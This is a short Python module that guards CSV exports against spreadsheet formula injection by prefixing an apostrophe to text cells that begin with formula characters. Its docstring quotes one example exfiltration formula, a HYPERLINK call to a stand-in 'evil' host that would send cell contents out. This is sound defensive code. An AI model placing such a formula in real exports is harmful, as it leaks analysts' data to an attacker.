"""Spreadsheet-safe CSV cells (OWASP "CSV injection").

The export is opened in Excel or LibreOffice by analysts; a text cell that starts with = + - @,
a tab or a carriage return is read there as a formula, so a caller who chose the speaker id
`=HYPERLINK("http://evil/?"&A1)` (or a watchlist label) could run one on the analyst's machine.
Such text cells get a leading apostrophe, which spreadsheets show as text; numbers stay numbers
(a negative score is data, not a formula).
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]
